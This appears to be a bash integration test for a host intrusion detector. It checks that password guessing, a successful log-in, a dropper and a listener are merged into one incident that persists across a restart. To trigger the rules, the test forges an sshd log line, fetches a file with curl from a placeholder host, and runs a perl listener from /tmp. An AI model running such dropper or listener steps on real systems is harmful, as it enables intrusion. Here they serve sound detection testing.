#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# What belongs together is one incident: guessing, the breach, what it brings and what that opens, found by different
# rules over logs, processes and sockets. The device and the service tell the same of it, through a restart.

. "$(dirname "$0")/lib.sh"
export WORLD_USERNS=no RULES=yes		# a user namespace may load no BPF
world_enter "$@"
needs_bpf
[ -e /usr/local/share/caltrop/caltrop-rules.pack ] || skip "no pack was built"
cast
guard_conf <<-EOF
	[process]
	enabled = yes
	[network]
	enabled = yes
	poll_interval = 1s
	[rule.brute_force]
	count = 3
EOF
fleet_start

shows() { desk incident show "$1" --json | jq -e "$2" >/dev/null; }		# ID JQ
counts() { [ "$(desk incident list --limit 0 --json | jq "[.items[] | select($1)] | length")" = "$2" ]; }	# JQ NUMBER

for i in 1 2 3; do log_failure $ATTACKER1 alice; done
for i in 1 2 3; do log_failure $ATTACKER2 alice; done
wait_for 10 "two who guess the same account are two incidents" counts '.rule == "brute_force"' 2
id=$(desk incident list --json | jq -r ".items[] | select(.src == \"$ATTACKER1\").id")
check "one rule of medium level is a score of 40" shows "$id" '.score == 40 and .severity == "medium"'

# The log-in that succeeds, and what runs in its session.
cat >/tmp/session <<-'EOF'
	printf '%(%Y-%m-%dT%H:%M:%S)T.000000+00:00 device sshd[%d]: Accepted password for alice from %s port 40000 ssh2\n' \
		-1 $$ $1 >>$2
	cp /usr/bin/perl /tmp/.x
	bash -c 'curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/.x
		/tmp/.x -MIO::Socket::IP -e "IO::Socket::IP->new(Listen => 1, LocalPort => 48101) and sleep 30"; :' &
	wait
EOF
on device bash /tmp/session $ATTACKER1 $LOG >/dev/null 2>&1 &
session=$!
has_rules() { shows "$id" "(.timeline | map(.title)) as \$t | all($1; . as \$r | any(\$t[]; test(\$r)))"; }
wait_for 20 "guessing, breach, dropper and listener are one incident" has_rules \
	'("Password guessing", "succeeded after failures", "Fetched, made executable and run", "world-writable folder listens")'
desk incident show "$id" --json >/tmp/shown
check "which is critical" jq -e '.severity == "critical" and .score >= 80' /tmp/shown
check "its rules have begun in order" jq -e '[.timeline[].first] | . == sort' /tmp/shown
check "each with its tags, its author and a count" jq -e 'all(.timeline[]; (.tags | length) > 0 and .author != "" and .count > 0)' /tmp/shown
check "the log-in is said to have succeeded" jq -e 'any(.timeline[]; .rule == "breach" and .succeeded)' /tmp/shown
check "the other one is an incident of its own" counts ".src == \"$ATTACKER2\" and .score == 40" 1
desk incident show "$id" >/tmp/text
check "people are shown the timeline" grep -qE 'timeline +[0-9T:-]+ medium +.*Password guessing' /tmp/text

# Here as there.
of_device() { on device caltrop local incidents "${id:0:8}" -c $CONF --json; }
same() { [ "$(of_device | jq -cS "$1")" = "$(desk incident show "$id" --json | jq -cS "$2")" ]; }
wait_for 10 "the device tells the same score" same .incident.score .score
wait_for 10 "and the same rules" same '[.timeline[].rule] | sort' '[.timeline[].rule] | sort'
on device caltrop local incidents 00000000 -c $CONF >/tmp/said 2>&1
is_code not-0 "an incident that the device does not have is no answer"

# A restart loses nothing: what goes on is added to the same incident.
stop guard
guard_start
is_whole() { [ "$(of_device | jq '.incident.rules')" -ge 4 ]; }
wait_for 10 "the incident is there after a restart" is_whole
for i in 1 2 3; do log_failure $ATTACKER1 alice; done
count_grew() { [ "$(of_device | jq '[.timeline[] | select(.rule == "brute_force").count][0]')" -ge 6 ]; }
wait_for 10 "and goes on" count_grew
check "as the one that it was" counts ".id == \"$id\"" 1
# Nothing else happens, so nothing but the time can bring it.
wait_for 20 "the service counts what the device counts" same '.incident.count' .count
wait_for 20 "in each rule" same '[.timeline[] | {rule, count}] | sort' '[.timeline[] | {rule, count}] | sort'
kill $session 2>/dev/null
check "which is one" counts "any(.timeline[]; .rule == \"breach\")" 1
